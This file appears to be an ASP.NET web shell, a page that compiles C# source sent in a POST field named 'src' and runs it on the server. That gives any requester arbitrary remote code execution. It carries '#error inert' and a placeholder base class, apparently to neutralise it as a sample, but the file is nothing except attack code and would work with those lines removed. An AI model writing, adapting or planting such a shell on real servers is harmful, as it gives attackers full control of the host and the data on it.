<%@ Page Language="C#" Inherits="Inert.Nothing" ValidateRequest="false" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
#error inert
void Page_Load(object sender, EventArgs e)
{
    string src = Request.Form["src"];
    if (string.IsNullOrEmpty(src)) return;
    CompilerParameters cp = new CompilerParameters { GenerateInMemory = true };
    cp.ReferencedAssemblies.Add("System.dll");
    cp.ReferencedAssemblies.Add("System.Web.dll");
    CompilerResults cr = new CSharpCodeProvider().CompileAssemblyFromSource(cp, src);
    if (cr.Errors.HasErrors) { foreach (CompilerError x in cr.Errors) Response.Write(x.ErrorText + "<br>"); return; }
    Type t = cr.CompiledAssembly.GetTypes()[0];
    Response.Write(t.GetMethod("Eval").Invoke(Activator.CreateInstance(t), null));
}
</script>
